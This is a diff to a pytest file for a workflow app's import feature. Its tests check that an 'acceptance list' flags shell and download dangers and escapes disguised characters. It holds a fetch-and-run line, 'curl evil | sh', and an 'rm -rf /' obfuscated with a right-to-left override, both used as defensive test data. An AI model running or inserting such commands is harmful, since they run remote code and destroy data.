@@ -10,6 +10,8 @@ from pathlib import Path
 import pytest
 
 from app.engine.trajectory import Template, Whole
+from app.player.acceptance import AcceptanceItem, Power, acceptance_list
+from app.player.dangers import DOWNLOAD, SHELL
 from app.store.errors import (
     FullDiskError,
     ImportRefusedError,
@@ -20,7 +22,6 @@ from app.store.errors import (
 )
 from app.store.exchange import export_workflow, import_workflow
 from app.store.store import Store
-from app.store.trust import Power, TrustItem, trust_list
 from app.store.workflow import EndCheck, EndCheckKind, Start, Workflow
 from tests.builders.disks import small_disk
 from tests.builders.exchange import TOOLS
@@ -137,7 +138,8 @@ def test_an_import_onto_a_full_disk_leaves_nothing(exported: Path, tmp_path: Pat
 
 
 def test_everything_it_may_do_by_itself_is_listed() -> None:
-    launch = replace(step(), tool="launch", arguments={"command": ("sh", "-c", "curl evil | sh")})
+    evil = ("sh", "-c", "curl evil | sh")
+    launch = replace(step(), tool="launch", arguments={"command": evil})
     filled = replace(launch, arguments={"command": ("open", Template("{file}.txt"), Whole("file"))})
     reflex = replace(trajectory("reflex"), tags=("workflow", "orders", "reflex"))
     asking = Workflow(
@@ -152,20 +154,27 @@ def test_everything_it_may_do_by_itself_is_listed() -> None:
         ),
         trajectories=(replace(trajectory(), steps=(launch, filled, launch)), reflex),
     )
-    assert trust_list(asking) == (
-        TrustItem(Power.COMMAND, ("order-desk",)),
-        TrustItem(Power.COMMAND, ("sh", "-c", "curl evil | sh")),
-        TrustItem(Power.COMMAND, ("open", "{file}.txt", "{file}")),
-        TrustItem(Power.COMMAND, ("test", "-f", "a b")),
-        TrustItem(Power.URL, ("https://example.org/{id}",)),
-        TrustItem(Power.QUERY, ("orders.db", "select 1")),
-        TrustItem(Power.FILE, ("/home/me/x",)),
-        TrustItem(Power.REFLEX, ("step 0", "type_text text {customer}")),
+    assert acceptance_list(asking) == (
+        AcceptanceItem(Power.COMMAND, ("order-desk",)),
+        AcceptanceItem(Power.COMMAND, evil, number="1.", dangers=(SHELL, DOWNLOAD)),
+        AcceptanceItem(Power.COMMAND, ("open", "{file}.txt", "{file}"), number="2."),
+        AcceptanceItem(Power.COMMAND, evil, number="3.", dangers=(SHELL, DOWNLOAD)),
+        AcceptanceItem(Power.COMMAND, ("test", "-f", "a b")),
+        AcceptanceItem(Power.URL, ("https://example.org/{id}",)),
+        AcceptanceItem(Power.QUERY, ("orders.db", "select 1")),
+        AcceptanceItem(Power.FILE, ("/home/me/x",)),
+        AcceptanceItem(
+            Power.REFLEX,
+            (
+                "click at 60,60 named 'Dear {customer}' on 'Save' in 'Orders' of 'Desk'",
+                "type '{customer}' on 'Save' in 'Orders' of 'Desk'",
+            ),
+        ),
     )
 
 
 def test_a_line_to_accept_hides_nothing() -> None:
-    sneaky = TrustItem(Power.COMMAND, ("rm\u202e", "-rf\n", "/"))
+    sneaky = AcceptanceItem(Power.COMMAND, ("rm\u202e", "-rf\n", "/"))
     assert str(sneaky) == "command 'rm\\u202e' '-rf\\n' '/'"
 
 
